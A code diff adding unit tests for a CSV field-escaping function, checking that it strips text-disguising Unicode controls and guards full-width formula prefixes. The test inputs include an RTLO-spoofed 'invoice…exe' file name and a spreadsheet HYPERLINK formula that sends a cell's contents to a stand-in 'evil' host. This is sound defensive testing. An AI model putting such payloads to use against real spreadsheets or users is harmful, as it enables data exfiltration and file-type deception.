@@ -104,6 +104,17 @@ describe('csvField', () => {
   })
 })
 
+describe('csvField and what disguises text', () => {
+  it('drops bidirectional controls and zero-width characters from text', () => {
+    expect(csvField('invoice_\u202egpj.exe')).toBe('"invoice_gpj.exe"')
+    expect(csvField('a\u200bb\u2066c\ufeff')).toBe('"abc"')
+  })
+
+  it('guards the full-width and small forms of a formula start as well', () => {
+    for (const start of ['＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫']) expect(csvField(`${start}1+1`)).toBe(`"'${start}1+1"`)
+  })
+})
+
 describe('guardFormulas', () => {
   it('is what a field holds between its quotes', () => {
     expect(guardFormulas('help;=HYPERLINK("http://evil/"&A2);')).toBe('help;\'=HYPERLINK("http://evil/"&A2);')
